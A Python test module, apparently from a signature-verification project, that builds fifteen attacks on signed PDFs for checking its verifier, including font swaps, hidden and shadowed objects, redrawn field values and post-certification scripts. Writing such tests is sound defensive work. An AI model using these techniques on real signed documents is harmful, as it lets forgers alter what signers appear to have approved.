"""Attacks on documents of somebody else, prepared before the signature where the attack needs it.

The signer is honest and signs what he sees, with a program that is not ours; what is ours neither
offers comments nor fields to be filled in, so these attacks need other documents. Source: shadow
attacks (NDSS 2021), attacks on certification (IEEE S&P 2021).
"""

import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, append_signature_field

from services.documents.verification.raw import read_raw
from tests.documents.attacks import (
    EVIL,
    add_script,
    add_signature_field,
    annotate,
    appended,
    trailer_after,
)
from tests.documents.authorities import Owner, self_signed, stock_sign
from tests.documents.forgeries import FIELD, open_writer, written

Prepared = Callable[[bytes, Owner], bytes]
PLACE = (60, 300, 460, 500)


def approved(pdf: bytes, card: Owner) -> bytes:
    return stock_sign(pdf, card, FIELD)


def certified(pdf: bytes, card: Owner, permission: MDPPerm) -> bytes:
    return stock_sign(pdf, card, FIELD, certify=True, docmdp_permissions=permission)


def _stream(look: bytes) -> generic.StreamObject:
    box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 400, 200)))
    keys = {"/Type": pdf_name("/XObject"), "/Subtype": pdf_name("/Form"), "/BBox": box}
    return generic.StreamObject({pdf_name(k): v for k, v in keys.items()}, stream_data=look)


def _add_text_field(writer: IncrementalPdfFileWriter) -> generic.Reference:
    """Add a filled-in field; return its appearance."""
    look = writer.add_object(_stream(b"q 0 0 1 rg 0 0 400 20 re f Q"))
    keys = {
        "/Type": pdf_name("/Annot"),
        "/Subtype": pdf_name("/Widget"),
        "/FT": pdf_name("/Tx"),
        "/T": generic.pdf_string("Amount"),
        "/V": generic.pdf_string("100"),
        "/F": generic.NumberObject(4),
        "/Rect": generic.ArrayObject(map(generic.NumberObject, PLACE)),
        "/AP": generic.DictionaryObject({pdf_name("/N"): look}),
    }
    field = generic.DictionaryObject({pdf_name(key): value for key, value in keys.items()})
    reference = writer.add_object(field)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(reference)
    writer.update_container(form["/Fields"])
    page, _ = writer.find_page_for_modification(0)
    annotations = page.get_object().get("/Annots", generic.ArrayObject())
    page.get_object()["/Annots"] = generic.ArrayObject([*annotations, reference])
    writer.mark_update(page)
    return look.reference


def value_drawn_anew(pdf: bytes, card: Owner) -> bytes:
    """Let a field look otherwise than its value, after the signature (replace)."""
    writer = open_writer(pdf)
    look = _add_text_field(writer)
    signed = approved(written(writer), card)
    later = open_writer(signed)
    drawn = later.get_object(generic.Reference(look.idnum, 0, pdf=later))
    drawn._data, drawn._encoded_data = EVIL, None
    later.mark_update(generic.Reference(look.idnum, 0, pdf=later))
    return written(later)


def font_exchanged(pdf: bytes, card: Owner) -> bytes:
    """Give the letters other shapes by another font file (replace)."""
    signed = approved(pdf, card)
    names = (b"FontFile2", b"FontFile3", b"FontFile")
    known = re.search(rb"/(?:%s) (\d+) 0 R" % b"|".join(names), _plain(signed))
    assert known, "the document has no embedded font"
    later = open_writer(signed)
    reference = generic.Reference(int(known.group(1)), 0, pdf=later)
    font = later.get_object(reference)
    font._data, font._encoded_data = b"\x01\x00\x04\x01 another typeface", None
    later.mark_update(reference)
    return written(later)


def _plain(pdf: bytes) -> bytes:
    """Return the dictionaries of a file as text, packed ones too."""
    return b" ".join(
        b"/%s %d 0 R" % (key.encode(), value.number)
        for item in read_raw(pdf).objects
        if isinstance(item.value, dict)
        for key, value in item.value.items()
        if key.startswith("FontFile")
    )


def cover_taken_away(pdf: bytes, card: Owner) -> bytes:
    """Cover a text before the signature and drop the cover afterwards (hide)."""
    writer = open_writer(pdf)
    cover = writer.add_object(generic.StreamObject(stream_data=b"q 1 g 60 300 400 200 re f Q"))
    page, _ = writer.find_page_for_modification(0)
    found = page.get_object()
    evil = writer.add_object(generic.StreamObject(stream_data=EVIL))
    found["/Contents"] = generic.ArrayObject([found.raw_get("/Contents"), evil, cover])
    writer.mark_update(page)
    signed = approved(written(writer), card)
    table = b"xref\n%d 1\n0000000000 00001 f \n" % cover.idnum
    return signed + table + trailer_after(signed, len(signed))


def two_under_one_number(pdf: bytes, card: Owner) -> bytes:
    """Hide a second object under a number, signed but not shown (hide and replace, prepared)."""
    number = _contents_of_page(pdf)
    raw = read_raw(pdf)
    shown = next(item for item in raw.objects if item.number == number)
    body = pdf[shown.start : shown.end].split(b"obj", 1)[1].rsplit(b"endobj", 1)[0].strip()
    hidden = b"%d 0 obj\n<</Length %d>>stream\n%s\nendstream\nendobj\n" % (number, len(EVIL), EVIL)
    return approved(appended(pdf + hidden, {number: body}), card)


def hidden_one_shown(pdf: bytes, card: Owner) -> bytes:
    """Let the table point at the hidden object after the signature (hide and replace)."""
    signed = two_under_one_number(pdf, card)
    number = _contents_of_page(pdf)
    place = signed.index(b"%d 0 obj\n<</Length %d>>stream\n%s" % (number, len(EVIL), EVIL))
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, place)
    return signed + table + trailer_after(signed, len(signed))


def _contents_of_page(pdf: bytes) -> int:
    page = next(item for item in read_raw(pdf).objects if item.is_a("Page"))
    number: int = page.value["Contents"].number
    return number


def remark_where_allowed(pdf: bytes, card: Owner) -> bytes:
    return annotate(certified(pdf, card, MDPPerm.ANNOTATE))


def remark_on_approval(pdf: bytes, card: Owner) -> bytes:
    return annotate(approved(pdf, card))


def field_on_approval(pdf: bytes, card: Owner) -> bytes:
    return add_signature_field(approved(pdf, card))


def field_where_allowed(pdf: bytes, card: Owner) -> bytes:
    return add_signature_field(certified(pdf, card, MDPPerm.FILL_FORMS))


def signed_field_on_approval(pdf: bytes, card: Owner) -> bytes:
    """Sign as nobody in particular, in a field that covers the page."""
    writer = open_writer(approved(pdf, card))
    append_signature_field(writer, SigFieldSpec("Cover", box=(0, 0, 595, 842)))
    return stock_sign(b"", self_signed("Kdokoli"), "Cover", writer)


def signed_field_where_allowed(pdf: bytes, card: Owner) -> bytes:
    writer = open_writer(certified(pdf, card, MDPPerm.FILL_FORMS))
    append_signature_field(writer, SigFieldSpec("Cover", box=(0, 0, 595, 842)))
    return stock_sign(b"", self_signed("Kdokoli"), "Cover", writer)


def script_signed(pdf: bytes, card: Owner) -> bytes:
    return approved(add_script(pdf), card)


def script_after_certification(pdf: bytes, card: Owner) -> bytes:
    return add_script(certified(pdf, card, MDPPerm.FILL_FORMS))


def orphan_after_no_changes(pdf: bytes, card: Owner) -> bytes:
    signed = certified(pdf, card, MDPPerm.NO_CHANGES)
    return appended(signed, {9000: b"(orphan)"}, with_table=False)


def junk_after_no_changes(pdf: bytes, card: Owner) -> bytes:
    return certified(pdf, card, MDPPerm.NO_CHANGES) + b"junk"


PREPARED: dict[str, Prepared] = {
    "value drawn anew": value_drawn_anew,
    "font exchanged": font_exchanged,
    "cover taken away": cover_taken_away,
    "two under one number": two_under_one_number,
    "hidden one shown": hidden_one_shown,
    "remark where remarks are allowed": remark_where_allowed,
    "remark on an approval": remark_on_approval,
    "field on an approval": field_on_approval,
    "field where filling in is allowed": field_where_allowed,
    "signed field on an approval": signed_field_on_approval,
    "signed field where filling in is allowed": signed_field_where_allowed,
    "script signed with the document": script_signed,
    "script after certification": script_after_certification,
    "object after no changes": orphan_after_no_changes,
    "junk after no changes": junk_after_no_changes,
}
